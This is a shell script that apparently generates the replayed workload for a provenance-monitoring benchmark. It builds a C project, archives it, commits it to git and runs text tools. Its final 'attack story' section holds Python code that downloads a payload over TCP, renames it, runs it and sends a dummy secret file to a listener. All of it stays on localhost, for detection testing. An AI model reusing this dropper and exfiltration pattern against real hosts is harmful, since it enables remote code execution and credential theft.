#!/bin/sh
# The real mix the provenance benchmark replays: one run of what a host does in a minute, recorded
# by the monitor (benchmarks/provenance.py record). Usage: provenance_workload.sh WORKDIR
set -eu
W=$1
cd "$W"

# A developer builds a small C project with make -j2.
mkdir -p project
i=1
while [ $i -le 12 ]; do
    printf '#include <stdio.h>\n#include <string.h>\n#include <stdlib.h>\nint f%d(int x) { return x * %d; }\n' \
        $i $i > project/f$i.c
    i=$((i + 1))
done
printf 'int main(void) { return 0; }\n' > project/main.c
cat > project/Makefile <<'MK'
SRCS := $(wildcard *.c)
prog: $(SRCS:.c=.o)
	$(CC) -o $@ $^
%.o: %.c
	$(CC) -O1 -c -o $@ $<
MK
make -s -j2 -C project

# Archive it, unpack a copy, keep it under git.
tar czf project.tgz project
mkdir -p unpacked && tar xzf project.tgz -C unpacked
git init -q repo
cp project/*.c repo/
git -C repo add .
git -C repo -c user.name=bench -c user.email=bench@localhost commit -qm import

# Text processing the shell way.
grep -l return project/*.c | sort > list.txt
wc -l list.txt > count.txt
sed 's/return/yield/' project/main.c > main.sed.c
cp -r unpacked unpacked.bak && rm -rf unpacked.bak

# The attack story: a payload fetched over TCP, renamed, run; it reads a secret and sends it.
echo "api-key-0123456789" > secret.txt
python3 - "$W" <<'PY'
import os, socket, subprocess, sys, threading
w = sys.argv[1]
payload = b"#!/bin/sh\ncat secret.txt | python3 -c 'import socket,sys; " \
          b"s=socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))); " \
          b"s.sendall(sys.stdin.buffer.read())' \"$1\"\n"
threads = []
def server(handler):
    s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
    threads.append(threading.Thread(target=lambda: handler(s.accept()[0]), daemon=True))
    threads[-1].start()
    return s.getsockname()[1]
def give(c): c.sendall(payload); c.close()
got = []
def take(c):
    got.append(c.recv(4096)); c.close()
give_port, take_port = server(give), server(take)
drop = f"""import os, socket
s = socket.create_connection(("127.0.0.1", {give_port}))
data = b""
while chunk := s.recv(4096):
    data += chunk
open("dl.tmp", "wb").write(data)
os.rename("dl.tmp", "update.sh")
os.chmod("update.sh", 0o755)
os.execv("/bin/sh", ["sh", "./update.sh", "{take_port}"])
"""
subprocess.run([sys.executable, "-c", drop], cwd=w, check=True)
for t in threads:
    t.join(30)
assert got == [b"api-key-0123456789\n"], got
PY
rm -f update.sh
